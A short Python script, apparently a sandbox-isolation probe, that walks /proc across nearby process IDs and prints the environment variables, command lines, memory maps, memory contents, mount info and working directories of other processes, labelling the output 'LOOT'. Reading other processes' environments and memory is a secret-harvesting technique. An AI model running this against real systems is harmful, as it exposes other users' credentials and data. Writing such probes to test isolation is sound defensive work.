"""Environment, arguments and memory of other processes are read in /proc."""

import os

_numbers = [1, 2, os.getppid(), *range(os.getppid() - 40, os.getpid() + 40)]
for _number in _numbers:
    for _name in ("environ", "cmdline", "maps", "mem", "mountinfo", "cwd", "root"):
        _path = f"/proc/{_number}/{_name}"
        if _number == os.getpid() and _name in ("cwd", "root"):
            continue
        try:
            if _name in ("cwd", "root"):
                print("LOOT:", _path, os.readlink(_path))
            else:
                with open(_path, "rb") as file:
                    print("LOOT:", _path, file.read(300))
        except (OSError, ValueError):
            pass
